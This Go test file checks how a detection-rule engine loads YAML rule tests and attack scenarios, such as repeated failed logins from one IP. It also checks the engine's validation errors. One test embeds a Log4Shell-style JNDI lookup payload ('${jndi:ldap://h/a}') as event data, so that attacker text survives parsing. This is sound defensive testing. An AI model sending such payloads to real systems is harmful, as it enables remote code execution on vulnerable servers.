package rules_test

import (
	"errors"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"github.com/weirdev/weir/event"
	"github.com/weirdev/weir/rules"
)

// someTests are two tests of the rule a, and one of a rule that is not there.
const someTests = `tests:
  - rule: a
    name: it fires
    events: [{at: 0s, every: 1s, repeat: 5, set: {account: ann, auth: failure, status: 401, object: "o{n}"}}]
    expect: [{entity: ann, weight: 50}]
  - rule: a
    name: it does not
    events: [{at: 0s, set: {account: ann}}]
    expect: []
  - rule: elsewhere
    name: it fires
    events: [{at: 0s, set: {device: d1}}]
    expect: [{entity: d1, weight: 50}]
`

// someScenarios are one that names everything, and one that names little.
const someScenarios = `scenarios:
  - name: an attack
    rules: [a]
    events:
      - {at: 0s, every: 1s, repeat: 5, set: {ip: 192.0.2.1, account: "u{n}", auth: failure}}
      - {at: 1s, delay: 5m, set: {account: u1}}
    expect:
      - {entity: "account:u{n}", repeat: 3, signals: [{rule: a, weight: 50, times: 1, group: "ip:192.0.2.1"}], score: 50, reasons: [x]}
      - {entity: "account:u4", score: 0}
  - name: nothing
    events: [{at: 0s, set: {account: ann}}]
    expect: []
`

func TestScenarios(t *testing.T) {
	cases, err := testsOf(t, someScenarios)
	if err != nil || len(cases) != 2 {
		t.Fatal(cases, err)
	}
	s := cases[0].Test
	if len(s.Expect) != 4 || s.Events[1].Delay != 5*time.Minute || s.Rule != "" || len(s.Only) != 1 {
		t.Fatalf("%+v", s)
	}
	x := s.Expect[2]
	if x.String() != "account:u3" || x.Any || x.Score != 50 || x.Reasons[0] != "x" || x.Signals[0].Group.String() != "ip:192.0.2.1" || x.Signals[0].Times != 1 {
		t.Errorf("%+v", x)
	}
	if y := s.Expect[3]; !y.Any || y.Score != 0 || y.Reasons != nil {
		t.Errorf("%+v", y)
	}
	for _, c := range []struct{ name, from, to, want string }{
		{"a rule that is not there", "{rule: a,", "{rule: b,", `there is no rule "b"`},
		{"one that is looked at", "rules: [a]", "rules: [aa]", `there is no rule "aa"`},
		{"an entity of no kind", `"account:u4"`, `"acount:u4"`, `"acount:u4" names no entity`},
		{"an entity without a key", `"account:u4"`, `"account:"`, `names no entity`},
		{"an entity twice", `"account:u4"`, `"account:u2"`, `"account:u2" is expected twice`},
		{"a series of one entity", `"account:u{n}"`, `"account:u"`, `"account:u" is expected twice`},
		{"a rest by nothing", `"account:u{n}"`, `"account:u{n%0}"`, `"{n%0}" is not like {n%7}`},
		{"a group of no kind", `"ip:192.0.2.1"`, `"192.0.2.1"`, `"192.0.2.1" names no entity`},
		{"a score beyond 100", "score: 50", "score: 101", `"score" cannot be 101`},
		{"one name twice", "name: nothing", "name: an attack", "another scenario has the same name"},
	} {
		var problems *rules.Problems
		if _, err := testsOf(t, strings.Replace(someScenarios, c.from, c.to, 1)); !errors.As(err, &problems) || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s: %v, want something with %q", c.name, err, c.want)
		}
	}
}

func testsOf(t testing.TB, text string) ([]rules.Case, error) {
	t.Helper()
	set, err := loadText(t, map[string]string{"a.yaml": small("a")})
	if err != nil {
		t.Fatal(err)
	}
	return rules.LoadTests(fstest.MapFS{"t.yaml": {Data: []byte(text)}}, set)
}

func TestTestsMayStandApartFromTheirRules(t *testing.T) {
	cases, err := testsOf(t, someTests)
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, c := range cases {
		got = append(got, c.Test.Rule+": "+c.Test.Name)
		if c.File != "t.yaml" || c.Test.Line < 2 || len(c.Test.Events) != 1 {
			t.Errorf("%+v of %+v", c, c.Test)
		}
	}
	if strings.Join(got, ", ") != "a: it fires, a: it does not, elsewhere: it fires" {
		t.Errorf("got %q", got)
	}
}

func TestFilesOfTestsThatAreWrong(t *testing.T) {
	for _, c := range []struct{ name, from, to, want string }{
		{"a key that is not known", "rule: a", "rules: a", `there is no key "rules" here`},
		{"an entity that no event is about", "{entity: ann,", "{entity: bob,", `no event of this test is about the account "bob"`},
		{"one name twice", "it does not", "it fires", "the first is in t.yaml, line 2"},
		{"a rule's file", "tests:\n", "rules:\n", "holds rules and no tests"},
		{"nothing", someTests, "", "holds no tests"},
	} {
		text := strings.Replace(someTests, c.from, c.to, 1)
		var problems *rules.Problems
		if _, err := testsOf(t, text); !errors.As(err, &problems) || !strings.Contains(err.Error(), c.want) || !strings.Contains(err.Error(), "in the tests") {
			t.Errorf("%s: %v, want something with %q", c.name, err, c.want)
		}
	}
	_, err := loadText(t, map[string]string{"a.yaml": small("a"), "t.yaml": someTests})
	if err == nil || !strings.Contains(err.Error(), "t.yaml: holds tests and no rules") {
		t.Errorf("among rules: %v", err)
	}
}

func fuzzTests(t *testing.T, data []byte) {
	t.Helper()
	cases, err := testsOf(t, string(data))
	var problems *rules.Problems
	if err != nil && !errors.As(err, &problems) {
		t.Fatal(err)
	}
	for _, c := range cases {
		c.Test.Expand()
	}
}

// A test may hold what an attacker writes, in every way that YAML writes texts.
func TestATestMayHoldBrackets(t *testing.T) {
	const want = "/?x=${jndi:ldap://h/a}"
	for name, fields := range map[string]string{
		"flow, double quotes": `{account: ann, path: "/?x=${jndi:ldap://h/a}"}`,
		"flow, single quotes": `{account: ann, path: '/?x=${jndi:ldap://h/a}'}`,
		"block, plain":        "\n              account: ann\n              path: /?x=${jndi:ldap://h/a}",
	} {
		text := small("a") + "    tests:\n      - name: an exploit\n        events:\n          - at: 0s\n            set: " + fields + "\n        expect: []\n"
		set, err := loadText(t, map[string]string{"a.yaml": text})
		if err != nil {
			t.Errorf("%s: %v", name, err)
			continue
		}
		if got := set.Rules[0].Tests[0].Expand()[0].Event.Text(event.Path); got != want {
			t.Errorf("%s: path %q", name, got)
		}
	}
}
